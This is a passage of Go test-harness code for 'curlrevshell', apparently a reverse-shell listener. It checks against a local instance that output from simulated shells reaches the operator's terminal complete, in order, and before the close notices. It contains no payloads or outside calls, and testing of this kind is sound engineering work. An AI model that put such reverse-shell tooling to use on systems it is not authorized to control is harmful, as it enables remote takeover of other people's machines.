			if !v.degenerate || len(ss.cell.opts) > 1 {
				break
			}
		}
		v.apply(c)
		c.labels = append(c.labels, opt.name+"="+v.name)
	}
	if c.certNear {
		d := c.fdir
		if d == "" {
			d = c.path("files")
			os.MkdirAll(d, 0o755)
		}
		if rng.IntN(2) == 0 {
			c.args = append(c.args, "-tls-certificate-cache", filepath.Join(d, "cert.txtar"))
		} else {
			c.args = append(c.args, "-tls-certificate-cache", filepath.Join(filepath.Dir(d), filepath.Base(d)+".cert"))
		}
	}
	if !c.certSet {
		c.args = append([]string{"-tls-certificate-cache", ""}, c.args...)
	}
	if !c.listenSet {
		c.args = append([]string{"-listen-address", "127.0.0.1:0"}, c.args...)
	}
	config := strings.Join(c.labels, " + ")
	io := ss.k%2 == 1
	declared := (ss.k/2)%2 == 1
	kind := "o"
	if io {
		kind = "io"
	}
	transport := "chunked"
	if declared {
		transport = "content-length"
	}

	// the stream
	var sent []byte
	var writes []cfgWrite
	class := ""
	switch ss.shape {
	case "big":
		size := 3<<20 + rng.IntN(5<<20)
		if !r.Thorough() { // quick: 3 - 5.5 MiB; thorough: 3 - 8 MiB
			size = 3<<20 + rng.IntN(5<<19)
		}
		sent = cfgGenBig(rng, id, size, rng.IntN(2) == 0)
		for off := 0; off < len(sent); {
			var n int
			switch x := rng.IntN(100); {
			case x < 10:
				n = 1 + rng.IntN(200)
			case x < 40:
				n = 200 + rng.IntN(4000)
			case x < 80:
				n = 4096 + rng.IntN(28000)
			default:
				n = 32768 + rng.IntN(32769)
			}
			n = min(n, len(sent)-off)
			writes = append(writes, cfgWrite{b: sent[off : off+n]})
			off += n
		}
		class = fmt.Sprintf("big|%s|%s", kind, transport)
	default:
		secs := cfgLongSecs[ss.k%len(cfgLongSecs)]
		gap := 0
		if (ss.k/4)%2 == 1 && secs >= 16 { // a silence in the middle
			gap = []int{11, 16}[ss.k%2]
			if gap >= secs-3 {
				gap = 11
			}
		}
		n := secs - gap // about one write a second outside the silence
		seq := 0
		for w := 0; w < n; w++ {
			var b []byte
			for t := 10 + rng.IntN(12); t > 0; t-- {
				b = append(b, fmt.Sprintf("{%s:%d}", id, seq)...)
				seq++
			}
			if rng.IntN(4) != 0 {
				b = append(b, '\n')
			}
			p := time.Duration(800+rng.IntN(400)) * time.Millisecond
			if gap > 0 && w == n/2 {
				p = time.Duration(gap) * time.Second
			}
			writes = append(writes, cfgWrite{b: b, pause: p})
			sent = append(sent, b...)
		}
		// the shell stays attached for at least the planned time (the last write is followed by what is left of it)
		var sum time.Duration
		for _, w := range writes {
			sum += w.pause
		}
		if want := time.Duration(secs)*time.Second + 300*time.Millisecond; sum < want {
			writes[len(writes)-1].pause += want - sum
		}
		sched := "steady"
		if gap > 0 {
			sched = fmt.Sprintf("gap%ds", gap)
		}
		class = fmt.Sprintf("long%ds|%s|%s|%s", secs, sched, kind, transport)
	}

	var s *crs.Session
	viol := func(key, what string, extra map[string]any) {
		w := map[string]any{"configuration": config, "args": c.args, "env": c.env, "class": class, "bytes_to_send": len(sent), "writes": len(writes)}
		if s != nil {
			cl := s.P.Clean()
			w["terminal_tail"] = fmt.Sprintf("%+q", cl[max(0, len(cl)-600):])
		}
		for k, v := range extra {
			w[k] = v
		}
		r.Violate("cfg", idx, key, what+" [configuration: "+config+"; stream: "+class+"]", w)
	}
	var err error
	s, err = crs.StartEnv(bin, home, c.env, c.args...)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("cfg: binary did not start with %q: %v", c.args, err))
		return
	}
	defer s.Close()
	base, ok := ptybHelpEnd(s, 0)
	if !ok {
		r.Inconclusive("cfg: no callback help at the start [" + config + "]")
		return
	}
	if c.tmplWarn { // this warning follows the help
		loc, ok := s.P.WaitFor(cfgTmplRe, base, crs.Bound)
		if !ok {
			r.Inconclusive("cfg: no warning about the missing template file")
			return
		}
		base = loc[1]
	}
	// attach (a patient client: sends once the shell is reported ready)
	var in *crs.InStream
	var out *crs.OutStream
	total := int64(len(sent))
	if io {
		var ios *crs.IOStream
		if declared {
			ios, err = crs.OpenIOLen(s.Addr, total)
		} else {
			ios, err = crs.OpenIO(s.Addr)
		}
		if err != nil {
			r.Inconclusive("cfg: " + err.Error())
			return
		}
		in, out = ios.In, ios.Out
	} else {
		in, err = crs.OpenIn(s.Addr, "/i/"+id)
		if err != nil {
			r.Inconclusive("cfg: " + err.Error())
			return
		}
		if _, ok := s.Wait(`Input connected: ID "`+id+`"`, base, crs.Bound); !ok {
			in.Close()
			viol("pty-shell-does-not-attach", "no Input connected notice", nil)
			return
		}
		if declared {
			out, err = crs.OpenOutLen(s.Addr, "/o/"+id, total)
		} else {
			out, err = crs.OpenOut(s.Addr, "/o/"+id)
		}
		if err != nil {
			in.Close()
			r.Inconclusive("cfg: " + err.Error())
			return
		}
	}
	defer in.Close()
	defer out.Close()
	if _, ok := s.Wait(`Shell is ready[^\n]*\n`, base, crs.Bound); !ok {
		viol("pty-shell-does-not-attach", "no ready notice although the client has sent its request and is still connected", nil)
		return
	}
	if c.oneShell { // printed by another goroutine: it could otherwise legitimately interleave with output
		if _, ok := s.Wait(`Closing listener[^\n]*\n`, base, crs.Bound); !ok {
			r.Inconclusive("cfg: -one-shell but no closing-listener notice")
			return
		}
	}
	attached := time.Now()
	// send
	okBytes := 0
	var sendErr error
	for _, w := range writes {
		if sendErr = out.Send(string(w.b)); sendErr != nil {
			break
		}
		okBytes += len(w.b)
		if w.pause > 0 {
			time.Sleep(w.pause)
		}
	}
	age := time.Since(attached)
	if sendErr == nil && !declared {
		out.End()
	}
	loc, found := s.P.WaitFor(cfgGoneRe, base, 0)
	if !found {
		loc, found = cfgWaitGone(s, max(base, s.P.CleanLen()-400), crs.Bound)
	}
	// every session that reached a verdict is counted, whatever the verdict (a violation exercised the cell too)
	tally := func(shownLen int, passed bool) {
		if passed {
			r.Eval(1)
			r.Count("cfg_sessions_that_held", 1)
		}
		r.Distinct(fmt.Sprintf("cfg|%s|%s|%d|%d", config, class, len(sent), len(writes)))
		r.Count("cfg_sessions", 1)
		r.Count("cfg_"+ss.shape+"_sessions", 1)
		r.Count("cfg_bytes_sent", int64(len(sent)))
		r.Count("cfg_bytes_on_terminal", int64(shownLen))
		for _, o := range ss.cell.opts {
			r.Count("cfg_option:"+cfgOptions[o].name+":"+ss.shape, 1)
		}
		for _, l := range c.labels {
			r.Count("cfg_variant:"+l, 1)
		}
		if len(ss.cell.opts) == 2 {
			r.Count("cfg_pair_sessions", 1)
			r.Count(fmt.Sprintf("cfg_pair:%s+%s", cfgOptions[ss.cell.opts[0]].name, cfgOptions[ss.cell.opts[1]].name), 1)
		} else {
			r.Count("cfg_single_option_sessions", 1)
		}
		if c.twice {
			r.Count("cfg_sessions_with_a_flag_given_more_than_once", 1)
		}
		r.Count("cfg_"+kind+"_"+transport, 1)
		if ss.shape == "big" {
			r.Count("cfg_big_bytes_on_terminal", int64(shownLen))
			r.Count("cfg_big_bytes_sent", int64(len(sent)))
			if len(sent) > 1<<20 {
				r.Count("cfg_big_streams_over_1MiB", 1)
			}
			if len(sent) > 2<<20 {
				r.Count("cfg_big_streams_over_2MiB", 1)
			}
			if len(sent) > 4<<20 {
				r.Count("cfg_big_streams_over_4MiB", 1)
			}
		} else {
			secs := int(age.Seconds())
			r.Count("cfg_long_seconds_attached", int64(secs))
			if secs >= 12 {
				r.Count("cfg_long_shells_attached_12s_or_more", 1)
			}
			if secs >= 30 {
				r.Count("cfg_long_shells_attached_30s_or_more", 1)
			}
			if strings.Contains(class, "|gap") {
				r.Count("cfg_long_shells_silent_for_11s_or_more", 1)
			}
		}
		if idx < 3 {
			r.Sample("cfg", map[string]any{"configuration": config, "args": c.args, "class": class, "bytes_sent": len(sent), "bytes_on_terminal": shownLen, "writes": len(writes), "seconds_attached": int(age.Seconds())})
		}
	}
	_ = loc
	clean := []byte(s.P.Clean())
	e := cfgFirstEndNotice(clean[base:])
	// the open finding of this configuration (see known-findings.txt): with -one-shell the program stops
	// displaying queued output and notices as soon as the shell is gone; it gets a key of its own
	natural := sendErr == nil
	oneShellKey := "one-shell:display-stops-at-natural-end"
	if e == nil || !found {
		// no end notice on the terminal at all (or no gone notice): how far did the display get?  The last
		// complete token on the terminal gives the offset in the sent stream up to which output was shown.
		shownUpTo := 0
		tail := clean[max(base, len(clean)-1<<16):]
		if ms := regexp.MustCompile(`\{`+id+`:\d+\}`).FindAll(tail, -1); len(ms) > 0 {
			if k := bytes.Index(sent, ms[len(ms)-1]); k >= 0 {
				shownUpTo = k + len(ms[len(ms)-1])
			}
		}
		extra := map[string]any{"program_exited": s.P.Exited(), "bytes_written_by_the_shell": okBytes, "displayed_up_to_offset_about": shownUpTo, "gone_notice": found, "end_notice": e != nil}
		missing := okBytes - shownUpTo
		switch {
		case natural && c.oneShell:
			viol(oneShellKey, fmt.Sprintf("the shell sent %d bytes and ended its output stream by itself; the terminal shows its output up to about offset %d and then nothing more for 30 s: no close/gone notice, %d bytes never shown", len(sent), shownUpTo, missing), extra)
		case natural:
			viol("pty-shell-does-not-end", fmt.Sprintf("no close/gone notice after the output stream ended by itself (%d bytes sent, displayed up to about offset %d)", len(sent), shownUpTo), extra)
		case missing > 64:
			viol("attached-shell-cut-off", fmt.Sprintf("the program closed the connection of a shell that was attached and still sending (%.1f s after it was ready; the shell's write failed: %v): %d bytes had been written to the connection, the terminal shows them up to about offset %d and no close/gone notice", age.Seconds(), sendErr, okBytes, shownUpTo), extra)
		default:
			r.Inconclusive(fmt.Sprintf("cfg: shell %s [%s]: send failed after %d bytes (%v) and no end notice", class, config, okBytes, sendErr))
			return
		}
		tally(shownUpTo, false)
		return
	}
	noticeAt := base + e[0]
	region := clean[base:noticeAt]
	// attach notices come before the first byte of output (the client was patient)
	head := len(region)
	if k := bytes.Index(region, []byte("{"+id+":0}")); k >= 0 {
		head = k
	}
	h := ptybAttachRe.ReplaceAll(region[:head], nil)
	h = cfgClosingRe.ReplaceAll(h, nil)
	region = append(h, region[head:]...)
	// notices about OTHER clients of the port (a failed TLS handshake of a dial that was retried, a stray
	// connection of another process on this machine) are the program's text, not the shell's
	region, noise := cfgStripServerErrors(region)
	m := ptybPrefixRe.FindIndex(region[max(0, len(region)-300):])
	if m == nil {
		// (the close notice of an error carries no address prefix in some cases: try the bare timestamp)
		r.Inconclusive(fmt.Sprintf("cfg: cannot tell the shell's output from the start of the end notice: %+q", region[max(0, len(region)-120):]))
		return
	}
	shown := bytes.ReplaceAll(region[:max(0, len(region)-300)+m[0]], []byte("\r\n"), []byte("\n"))
	good := sent[:okBytes] // what the shell has certainly handed to the program's socket
	div := -1
	if !bytes.HasPrefix(sent, shown) {
		for i := range shown {
			if i >= len(sent) || shown[i] != sent[i] {
				div = i
				break
			}
		}
	}
	noticeText := string(clean[noticeAt:min(len(clean), noticeAt+160)])
	if k := strings.IndexByte(noticeText, '\n'); k >= 0 {
		noticeText = noticeText[:k]
	}
	bad := false
	switch {
	case div >= 0:
		bad = true
		viol("terminal-bytes-diverge", fmt.Sprintf("the terminal shows bytes the shell did not send at that place: displayed and sent streams diverge at offset %d (%d displayed, %d sent)", div, len(shown), len(sent)),
			map[string]any{"displayed_around": ptybQ(shown, div, 40), "sent_around": ptybQ(sent, div, 40)})
	case sendErr != nil && len(shown) < len(good):
		bad = true
		viol("attached-shell-cut-off", fmt.Sprintf("the program ended the output stream of a shell that was attached and still sending (%q, %.1f s after it was ready; the shell's next write failed: %v): %d bytes had been written to the connection, only %d are on the terminal", noticeText, age.Seconds(), sendErr, len(good), len(shown)),
			map[string]any{"displayed_end": ptybQ(shown, len(shown), 40), "notice": noticeText})
	case sendErr != nil:
		r.Inconclusive(fmt.Sprintf("cfg: shell %s [%s]: send failed after %d bytes: %v", class, config, okBytes, sendErr))
		return
	case len(shown) < len(sent):
		bad = true
		key := "output-truncated-at-natural-end"
		if c.oneShell {
			key = oneShellKey
		}
		viol(key, fmt.Sprintf("the shell sent %d bytes and then ended its output stream by itself (%.1f s after it was ready), but only %d bytes are on the terminal before the end notice %q", len(sent), age.Seconds(), len(shown), noticeText),
			map[string]any{"displayed_end": ptybQ(shown, len(shown), 40), "sent_end": ptybQ(sent, len(sent), 40), "notice": noticeText})
	}
	if k := bytes.Index(clean[noticeAt:], []byte("{"+id+":")); k >= 0 {
		bad = true
		viol("output-after-close-notice", "shell output appears on the terminal after the close/gone notice", map[string]any{"after_notice": ptybQ(clean[noticeAt:], k, 60)})
	}
	if !c.oneShell {
		s.Quit()
	}
	r.Count("cfg_server_error_notices_about_other_clients_set_aside", int64(noise))
	tally(len(shown), !bad)
}

var cfgNoiseTSRe = regexp.MustCompile(`\d\d:\d\d:\d\d(?:\.\d+)? $`)

// cfgStripServerErrors removes the lines "[time ]Server error: ...": what the
// program's HTTP server says about other connections (the payload of the
// harness's shells never contains that text).
func cfgStripServerErrors(b []byte) ([]byte, int) {
	lit := []byte("Server error: ")
	if !bytes.Contains(b, lit) {
		return b, 0
	}
	var out []byte
	n := 0
	for {
		k := bytes.Index(b, lit)
		if k < 0 {
			break
		}
		start := k
		if m := cfgNoiseTSRe.FindIndex(b[max(0, k-24):k]); m != nil {
			start = max(0, k-24) + m[0]
		}
		end := bytes.IndexByte(b[k:], '\n')
		if end < 0 {
			break
		}
		out = append(out, b[:start]...)
		b = b[k+end+1:]
		n++
	}
	return append(out, b...), n
}

// cfgFirstEndNotice is ptybEndRe.FindIndex for megabytes of text: the same
// alternatives, searched as literals.
func cfgFirstEndNotice(b []byte) []int {
	best := -1
	for _, l := range []string{"Input connection closed", "Output connection closed", "Input side of bidirectional connection closed", "Output side of bidirectional connection closed", "Shell is gone"} {
		if k := bytes.Index(b, []byte(l)); k >= 0 && (best < 0 || k < best) {
			best = k
		}
	}
	if best < 0 {
		return nil
	}
	return []int{best, best}
}

// cfgGenBig is nbGen (numbered tokens "{id:n}", lines of 1-120 or now and then
// 2500-8500 bytes, a filler now and then) without fmt, for megabytes.
func cfgGenBig(rng *rand.Rand, id string, size int, longLines bool) []byte {
	b := make([]byte, 0, size+64)
	pre := []byte("{" + id + ":")
	sinceNL, seq := 0, 0
	lineLen := func() int {
		if longLines && rng.IntN(3) == 0 {
			return 2500 + rng.IntN(6000)
		}
		return 1 + rng.IntN(120)
	}
	next := lineLen()
	for len(b) < size {
		n0 := len(b)
		b = append(b, pre...)
		b = strconv.AppendInt(b, int64(seq), 10)
		b = append(b, '}')
		seq++
		if rng.IntN(40) == 0 {
			b = append(b, " \tfiller "...)
		}
		sinceNL += len(b) - n0
		if sinceNL >= next {
			b = append(b, '\n')
			if rng.IntN(25) == 0 {
				b = append(b, '\n')
			}
			sinceNL, next = 0, lineLen()
		}
	}
	return b
}

func cfgHasOneShell(c cfgCell) bool {
	for _, o := range c.opts {
		if cfgOptions[o].name == "one-shell" {
			return true
		}
	}
	return false
}

// cfgStart launches the matrix in the background; the returned function waits
// for it and sets the floors.
func cfgStart(r *mon.Run) (wait func()) {
	ss := cfgSessionsList(r)
	var wg sync.WaitGroup
	ran := r.WantEngine("cfg")
	if ran {
		wg.Add(1)
		go func() {
			defer wg.Done()
			bin, err := crs.Build(r.Work, "")
			if err != nil {
				r.Inconclusive("cannot build the binary: " + err.Error())
				return
			}
			// the LONG sessions sleep: all of them at once; the BIG ones a few at a time
			var lw sync.WaitGroup
			var bigs []int
			for i, x := range ss {
				if !r.Want("cfg", i) {
					continue
				}
				if x.shape == "big" && !cfgHasOneShell(x.cell) {
					bigs = append(bigs, i)
					continue
				}
				// (a -one-shell session may sit out the whole bound of the gone notice: not in the pool)
				lw.Add(1)
				go func() {
					defer lw.Done()
					cfgSessionRun(r, bin, i, x)
				}()
				if r.Thorough() && (i+1)%24 == 0 { // thorough: in waves
					lw.Wait()
				}
			}
			mon.Parallel(len(bigs), 6, func(k int) { cfgSessionRun(r, bin, bigs[k], ss[bigs[k]]) })
			lw.Wait()
		}()
	}
	return func() {
		wg.Wait()
		if !ran {
			return
		}
		var nb, nl, pairs, long30, gaps int64
		seenPair := map[string]bool{}
		for _, x := range ss {
			if x.shape == "big" {
				nb++
			} else {
				nl++
				secs := cfgLongSecs[x.k%len(cfgLongSecs)]
				if secs >= 31 {
					long30++
				}
				if (x.k/4)%2 == 1 && secs >= 16 {
					gaps++
				}
			}
			for _, o := range x.cell.opts {
				r.Floor("cfg_option:"+cfgOptions[o].name+":"+x.shape, 1)
			}
			if len(x.cell.opts) == 2 {
				pairs++
				p := fmt.Sprintf("cfg_pair:%s+%s", cfgOptions[x.cell.opts[0]].name, cfgOptions[x.cell.opts[1]].name)
				if !seenPair[p] {
					seenPair[p] = true
					r.Floor(p, 1)
				}
			}
		}
		r.Floor("cfg_sessions", nb+nl)
		r.Floor("cfg_big_sessions", nb)
		r.Floor("cfg_long_sessions", nl)
		r.Floor("cfg_single_option_sessions", int64(2*len(cfgOptions)))
		r.Floor("cfg_pair_sessions", pairs)
		r.Floor("cfg_big_streams_over_2MiB", nb)
		r.Floor("cfg_big_bytes_sent", nb*(3<<20))
		r.Floor("cfg_big_bytes_on_terminal", nb*(1<<20))
		r.Floor("cfg_long_shells_attached_12s_or_more", nl)
		r.Floor("cfg_long_shells_attached_30s_or_more", long30)
		r.Floor("cfg_long_shells_silent_for_11s_or_more", gaps)
		r.Floor("cfg_sessions_with_a_flag_given_more_than_once", 2)
		for _, t := range []string{"o_chunked", "io_chunked", "o_content-length", "io_content-length"} {
			r.Floor("cfg_"+t, 2)
		}
	}
}

package c03

import "github.com/magisterquis/curlrevshell/verifharness/mon"

func ptySessions(r *mon.Run) {}

package c03

import (
	"fmt"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

var ptyTok = regexp.MustCompile(`<o(\d+)>`)

// ptySessions: the whole path down to the terminal.  A fake shell over raw
// TLS sends numbered printable tokens in PRNG-sized writes; the de-escaped
// terminal stream must show them exactly once, in order, and everything sent
// before the client ended /o properly must precede the close notice.
func ptySessions(r *mon.Run) {
	bin, err := crs.Build(r.Work, "")
	if err != nil {
		r.Inconclusive("cannot build the binary: " + err.Error())
		return
	}
	n := r.N(3, 20)
	mon.Parallel(n, 6, func(i int) {
		if !r.Want("pty", i) {
			return
		}
		rng := r.Rng("pty", i)
		home := filepath.Join(r.Work, fmt.Sprintf("pty-%d", i))
		s, err := crs.Start(bin, home, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", "")
		if err != nil {
			r.Inconclusive("binary did not start: " + err.Error())
			return
		}
		defer s.Close()
		viol := func(key, what string) {
			c := s.P.Clean()
			if len(c) > 2500 {
				c = c[len(c)-2500:]
			}
			r.Violate("pty", i, key, what, map[string]any{"terminal_tail": c})
		}
		bidir := rng.IntN(2) == 0
		var in *crs.InStream
		var out *crs.OutStream
		if bidir {
			io, err := crs.OpenIO(s.Addr)
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			in, out = io.In, io.Out
		} else {
			in, err = crs.OpenIn(s.Addr, "/i/p")
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
			if _, ok := s.Wait(`Input connected`, 0, crs.Bound); !ok {
				viol("pty-shell-does-not-attach", "no Input connected notice")
				return
			}
			out, err = crs.OpenOut(s.Addr, "/o/p")
			if err != nil {
				r.Inconclusive(err.Error())
				return
			}
		}
		defer in.Close()
		if _, ok := s.Wait(`Shell is ready`, 0, crs.Bound); !ok {
			viol("pty-shell-does-not-attach", "no ready notice")
			return
		}
		total := 300 + rng.IntN(1500)
		sent := 0
		for sent < total {
			k := 1 + rng.IntN(40)
			if rng.IntN(10) == 0 {
				k = 200 + rng.IntN(300) // a write well beyond the broker's 2 KiB read buffer
			}
			var sb strings.Builder
			for j := 0; j < k && sent < total; j++ {
				fmt.Fprintf(&sb, "<o%d>", sent)
				if rng.IntN(7) == 0 {
					sb.WriteString("\n")
				}
				sent++
			}
			if err := out.Send(sb.String()); err != nil {
				r.Inconclusive("send: " + err.Error())
				return
			}
		}
		natural := rng.IntN(3) != 0
		if natural {
			out.End() // the output stream ends by itself while the shell is attached
		} else {
			out.Close()
		}
		loc, ok := s.Wait(`Shell is gone`, 0, crs.Bound)
		if !ok {
			viol("pty-shell-does-not-end", "no gone notice after the output stream ended")
			return
		}
		clean := s.P.Clean()
		closedAt := strings.Index(clean, "connection closed")
		if closedAt < 0 || closedAt > loc[0] {
			closedAt = loc[0]
		}
		want := 0
		lastPos := 0
		for _, m := range ptyTok.FindAllStringSubmatchIndex(clean, -1) {
			var v int
			fmt.Sscan(clean[m[2]:m[3]], &v)
			if v != want {
				if r.Replaying() {
					raw := string(s.P.Raw())
					if k := strings.Index(raw, fmt.Sprintf("<o%d>", want-1)); k >= 0 {
						r.Logf("RAW around: %q", raw[k:min(len(raw), k+120)])
					}
				}
				viol("terminal-output-out-of-order", fmt.Sprintf("token <o%d> appears on the terminal where <o%d> was expected (lost, duplicated or reordered output)", v, want))
				return
			}
			want++
			lastPos = m[0]
		}
		if lastPos > closedAt {
			viol("output-after-close-notice", "shell output appears on the terminal after the close/gone notice")
		}
		if natural && want != total {
			viol("output-truncated-at-natural-end", fmt.Sprintf("the output stream ended by itself after %d tokens but the terminal shows only %d", total, want))
		}
		r.Eval(1)
		r.Count("pty_sessions", 1)
		r.Count("pty_tokens_sent", int64(total))
		r.Count("pty_tokens_on_terminal", int64(want))
		if natural {
			r.Count("pty_natural_ends", 1)
		}
		r.Distinct(fmt.Sprintf("pty|%v|%v|%d", bidir, natural, total))
		if i == 0 {
			r.Sample("pty", map[string]any{"bidirectional": bidir, "natural_end": natural, "tokens": total, "on_terminal": want})
		}
		s.Quit()
	})
	r.Floor("pty_sessions", int64(n))
	r.Floor("pty_tokens_on_terminal", 500)
}

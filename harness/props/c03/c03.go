// Package c03: shell output reaches the operator byte-exact, in order, up to
// end of stream, and before the close notice.
package c03

import (
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"regexp"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

const Level = "exploration"

// posByte is the position code: the byte at stream offset o.
func posByte(o int) byte { return byte((o*7 + o/251 + o/65521) & 0xff) }

var errCustom = errors.New("custom transport error")

type script struct {
	items     []bk.ReadItem
	zeroReads int
	total     int    // bytes that the reader will have returned when the terminal error comes
	termErr   string // "" if the script has no terminal error (ended by cancellation)
	desc      []string
}

func genScript(rng *rand.Rand, natural bool) script {
	var s script
	n := 1 + rng.IntN(40)
	sizes := []int{0, 1, 1, 2, 3, 7, 64, 100, 1000, 2047, 2048, 2049, 4096, 5000, 10000}
	off := 0
	mk := func(sz int) []byte {
		b := make([]byte, sz)
		for i := range b {
			b[i] = posByte(off + i)
		}
		off += sz
		return b
	}
	for i := 0; i < n; i++ {
		sz := sizes[rng.IntN(len(sizes))]
		if rng.IntN(4) == 0 {
			sz = rng.IntN(3000)
		}
		it := bk.ReadItem{Data: mk(sz)}
		if rng.IntN(10) == 0 {
			it.Delay = time.Duration(rng.IntN(300)) * time.Microsecond
		}
		s.items = append(s.items, it)
		s.desc = append(s.desc, fmt.Sprint(sz))
		if rng.IntN(6) == 0 { // run of zero-length reads
			run := 1 + rng.IntN(4)
			if rng.IntN(4) == 0 { // a reader that often has nothing to say: hundreds of them over the stream's life
				run = 30 + rng.IntN(120)
			}
			for k := 0; k < run; k++ {
				s.items = append(s.items, bk.ReadItem{})
			}
			s.desc = append(s.desc, fmt.Sprintf("0x%d", run))
			s.zeroReads += run
		}
	}
	if natural {
		errs := []error{io.EOF, io.ErrUnexpectedEOF, io.ErrClosedPipe, errCustom, fmt.Errorf("wrapped: %w", io.EOF)}
		e := errs[rng.IntN(len(errs))]
		s.termErr = e.Error()
		if rng.IntN(2) == 0 { // data together with the error
			sz := 1 + rng.IntN(2500)
			s.items = append(s.items, bk.ReadItem{Data: mk(sz), Err: e})
			s.desc = append(s.desc, fmt.Sprintf("%d+%s", sz, e))
		} else {
			s.items = append(s.items, bk.ReadItem{Err: e})
			s.desc = append(s.desc, e.Error())
		}
	}
	s.total = off
	return s
}

var closedRe = regexp.MustCompile(`Output (connection|side of bidirectional connection) closed`)

func runCase(r *mon.Run, idx int) {
	rng := r.Rng("script", idx)
	natural := rng.IntN(4) != 0
	sc := genScript(rng, natural)
	ochCap := []int{0, 1, 2, 16, 1024}[rng.IntN(5)]
	kind := []string{"out", "out+in", "io"}[rng.IntN(3)]
	stalls := rng.IntN(3) == 0
	inputTraffic := rng.IntN(3) == 0 && kind != "out"
	w, err := bk.NewWorld(ochCap, 256)
	if err != nil {
		r.Inconclusive(err.Error())
		return
	}
	viol := func(key, what string) {
		r.Violate("script", idx, key, what, map[string]any{"reads": strings.Join(sc.desc, ","), "total_bytes": sc.total, "och_cap": ochCap, "kind": kind, "natural_end": natural, "stalls": stalls, "log_tail": w.Log.Tail(30)})
	}
	var out, in *bk.Attempt
	switch kind {
	case "io":
		out = w.NewAttempt("io", "", bk.WFlusher)
	default:
		out = w.NewAttempt("out", "k", bk.WPlain)
		if kind == "out+in" {
			in = w.NewAttempt("in", "k", bk.WFlusher)
		}
	}
	if in != nil && rng.IntN(2) == 0 {
		in.Start()
		w.Log.Wait(0, bk.Bound, func(e bk.Event) bool { return e.Kind == "slog" && e.Att == in.ID && e.S == bk.MsgNew })
		in = nil
	}
	out.Rd.Push(sc.items...)
	out.Start()
	if _, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
		return e.Kind == "slog" && e.Att == out.ID && e.Dir == "output" && e.S == bk.MsgNew
	}); !ok {
		viol("output-not-admitted", "the output stream was not admitted on an idle broker")
		w.Close()
		return
	}
	if in != nil {
		in.Start()
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() { // scripted stalls of the operator's terminal, and input traffic
		defer close(done)
		srng := rand.New(rand.NewPCG(uint64(idx), 99))
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			if stalls {
				resume := w.StallOperator()
				time.Sleep(time.Duration(srng.IntN(400)) * time.Microsecond)
				resume()
			}
			if inputTraffic && i < 50 {
				select {
				case w.Ich <- fmt.Sprintf("input-%d", i):
				default:
				}
			}
			time.Sleep(time.Duration(srng.IntN(200)) * time.Microsecond)
			runtime.Gosched()
		}
	}()
	if natural {
		// the output direction must finish by itself; (the input half of a bidirectional attempt
		// may legitimately stay attached until its client goes away, so Connect's return is not awaited)
		if _, ok := w.Log.Wait(0, 3*bk.Bound, func(e bk.Event) bool {
			return e.Kind == "hook" && e.Att == out.ID && e.Dir == "output" && e.S == "done"
		}); !ok {
			viol("output-stream-does-not-end", fmt.Sprintf("the reader returned %s but the output direction did not finish", sc.termErr))
		}
		if kind == "io" {
			out.Cancel()
		}
		select {
		case <-out.Ret:
		case <-time.After(bk.Bound):
			viol("output-stream-does-not-end", "Connect did not return after the output ended and the request context was cancelled")
		}
	} else {
		// end by cancellation at a PRNG-chosen point of progress
		target := 0
		if sc.total > 0 {
			target = rng.IntN(sc.total + 1)
		}
		shown := 0
		w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
			if e.Kind == "op" && e.Plain {
				shown += len(e.S)
			}
			return shown >= target
		})
		out.Cancel()
		select {
		case <-out.Ret:
		case <-time.After(bk.Bound):
			viol("output-stream-does-not-end", "ConnectOut did not return after cancellation")
		}
	}
	close(stop)
	<-done
	// marker: everything the broker sent to the operator precedes it
	w.Och <- opshell.CLine{Line: "MARK"}
	mev, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == "MARK" && !e.Plain })
	if !ok {
		r.Inconclusive("marker not seen")
		w.Close()
		return
	}
	// oracle
	var shown []byte
	closedSeen := false
	chunks := 0
	for _, e := range w.Log.Snapshot()[:mev.Seq] {
		if e.Kind != "op" {
			continue
		}
		if e.Plain {
			if closedSeen {
				viol("output-after-close-notice", fmt.Sprintf("chunk of %d bytes displayed after the output-closed notice", len(e.S)))
			}
			shown = append(shown, e.S...)
			chunks++
		} else if closedRe.MatchString(e.S) {
			closedSeen = true
		}
	}
	for i, b := range shown {
		if i >= sc.total || b != posByte(i) {
			viol("output-not-a-prefix", fmt.Sprintf("displayed bytes diverge from the sent stream at offset %d of %d displayed / %d sent (displayed chunks %d)", i, len(shown), sc.total, chunks))
			break
		}
	}
	if natural && len(shown) < sc.total {
		viol("output-truncated-at-natural-end", fmt.Sprintf("the stream ended by itself (%s) after %d bytes but only %d were displayed", sc.termErr, sc.total, len(shown)))
	}
	if natural && !closedSeen && kind != "io" {
		viol("close-notice-missing", "a unidirectional output stream ended by itself but no output-closed notice was shown")
	}
	stuck := w.Close()
	for _, a := range stuck {
		viol("connect-does-not-return", fmt.Sprintf("attempt %d did not return at the end of the case", a.ID))
	}
	r.Eval(1)
	r.Count("bytes_sent", int64(sc.total))
	r.Count("bytes_displayed", int64(len(shown)))
	r.Count("chunks_displayed", int64(chunks))
	r.Count("read_calls_scripted", int64(len(sc.items)))
	r.Count("zero_length_reads_scripted", int64(sc.zeroReads))
	if sc.zeroReads >= 100 {
		r.Count("scripts_with_100_or_more_zero_length_reads", 1)
	}
	if natural {
		r.Count("natural_ends", 1)
		r.Count("natural_end:"+sc.termErr, 1)
	} else {
		r.Count("cancelled_ends", 1)
	}
	if sc.total > 0 {
		r.Distinct(fmt.Sprintf("%s|%d|%s|%v|%v", strings.Join(sc.desc, ","), ochCap, kind, natural, stalls))
	}
	if idx < 2 {
		r.Sample("script", map[string]any{"reads": strings.Join(sc.desc, ","), "och_cap": ochCap, "kind": kind, "displayed_bytes": len(shown)})
	}
}

func Run(r *mon.Run) {
